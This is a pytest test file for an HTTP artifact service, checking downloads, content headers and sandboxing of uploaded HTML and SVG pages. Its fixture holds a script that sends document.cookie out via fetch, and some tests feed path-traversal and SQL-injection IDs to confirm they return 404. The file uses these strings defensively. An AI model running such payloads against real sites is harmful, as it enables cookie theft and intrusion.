"""Artifacts over HTTP: listed, downloaded, and shown where they can do nothing."""

from __future__ import annotations

import hashlib

import httpx
import pytest
from served import Serve

from fleet_rlm.runtime.execution.events import ArtifactPublished, Draft
from fleet_rlm.runtime.execution.ids import new_id

EVIL = b"<script>fetch('http://127.0.0.1/' + document.cookie)</script>"


@pytest.fixture
def published(serve: Serve):
    running = serve()
    api = running.bearer()
    sid = api.post("/sessions", json={"title": "t"}).json()["id"]
    ids: dict[str, str] = {}

    def publish(name: str, data: bytes, kind: str, version: int = 1, id: str | None = None) -> str:
        running.workspace.blobs.put(data)
        made = ArtifactPublished(
            id=id or new_id("art"), name=name, version=version, sha256=hashlib.sha256(data).hexdigest(),
            bytes=len(data), kind=kind, cell="c1",
        )  # fmt: skip
        running.workspace.journal.append(sid, [Draft(made, turn="trn_1", run="run_1")], durable=True)
        ids[name] = made.id
        return made.id

    yield api, sid, publish
    api.close()


def test_they_are_listed_and_downloaded(published) -> None:
    api, sid, publish = published
    publish("rows.csv", b"a,b\n", "text/csv")
    second = publish('Bericht ä".csv'.replace('"', ""), b"a,c\n", "text/csv", 2)
    publish("Bericht ä.csv", b"a,c\n", "text/csv", 2, id=second)  # again, by a resumed turn
    listed = api.get(f"/sessions/{sid}/artifacts").json()["artifacts"]
    assert [(a["name"], a["version"], a["bytes"], a["turn"], a["run"], a["cell"]) for a in listed] == [
        ("rows.csv", 1, 4, "trn_1", "run_1", "c1"), ("Bericht ä.csv", 2, 4, "trn_1", "run_1", "c1"),
    ]  # fmt: skip
    answer = api.get(f"/artifacts/{second}/content")
    assert answer.content == b"a,c\n" and answer.headers["content-type"].startswith("text/csv")
    disposition = answer.headers["content-disposition"]
    assert disposition == "attachment; filename=\"Bericht _.csv\"; filename*=UTF-8''Bericht%20%C3%A4.csv"
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(("name", "kind"), [("x.html", "text/html"), ("x.svg", "image/svg+xml")])
def test_a_page_is_inert(published, name: str, kind: str) -> None:
    api, _, publish = published
    id = publish(name, EVIL, kind)
    framed = api.get(f"/artifacts/{id}/view", headers={"Sec-Fetch-Dest": "iframe"})
    policy = framed.headers.get_list("content-security-policy")
    assert len(policy) == 1 and policy[0].startswith("sandbox allow-scripts; default-src 'none';")
    assert "allow-same-origin" not in policy[0] and "connect-src" not in policy[0]
    assert framed.headers["x-frame-options"] == "SAMEORIGIN" and "content-disposition" not in framed.headers
    assert framed.headers["content-type"].startswith(kind) and framed.content == EVIL
    for headers in ({}, {"Sec-Fetch-Dest": "document"}, {"Sec-Fetch-Dest": "script"}):
        opened = api.get(f"/artifacts/{id}/view", headers=headers)
        assert opened.headers["content-disposition"].startswith("attachment;")
        assert opened.headers["content-security-policy"].startswith("sandbox; default-src 'none'")


@pytest.mark.parametrize(
    ("page", "shown"),
    [
        (
            b"<LINK rel=preconnect href=//a.example><p>a link</p>",
            b"<x-LINK rel=preconnect href=//a.example><p>a link</p>",
        ),
        ("\ufeff<link\nrel=prefetch>".encode("utf-16-be"), b"<x-link\nrel=prefetch>"),
        (b"<h:link xmlns:h='u'></h:link><links/>", b"<h:x-link xmlns:h='u'></h:x-link><links/>"),
        (b"<!DOCTYPE svg [<!ENTITY e '&#60;h:link/>'>]>", b"<!DOCTYPE svg [<!x-entity e '&#60;h:link/>'>]>"),
    ],
)
def test_a_page_announces_no_connections(published, page: bytes, shown: bytes) -> None:
    api, _, publish = published
    id = publish("x.html", page, "text/html")
    framed = api.get(f"/artifacts/{id}/view", headers={"Sec-Fetch-Dest": "iframe"})
    assert framed.content.removeprefix("\ufeff".encode()) == shown
    assert framed.headers["x-dns-prefetch-control"] == "off"
    assert api.get(f"/artifacts/{id}/content").content == page


def test_other_kinds_are_shown_as_what_they_are(published) -> None:
    api, _, publish = published
    frame = {"Sec-Fetch-Dest": "iframe"}
    text = api.get(f"/artifacts/{publish('x.py', b'print(1)', 'text/x-python')}/view", headers=frame)
    assert text.headers["content-type"] == "text/plain; charset=utf-8"
    image = api.get(f"/artifacts/{publish('x.png', b'png', 'image/png')}/view", headers={"Sec-Fetch-Dest": "image"})
    assert image.headers["content-type"] == "image/png"


def test_unknown_ones_are_404(published) -> None:
    api, *_ = published
    for id in (new_id("art"), "art_%25", "..%2Fx", "art_' OR 1=1"):
        for what in ("content", "view"):
            assert api.get(f"/artifacts/{id}/{what}").status_code == 404
    assert api.get("/sessions/ses_nope/artifacts").status_code == 404


def test_they_need_a_key(published) -> None:
    api, _, publish = published
    id = publish("x.txt", b"x", "text/plain")
    with httpx.Client(base_url=str(api.base_url)) as nobody:
        assert nobody.get(f"artifacts/{id}/content").status_code == 401
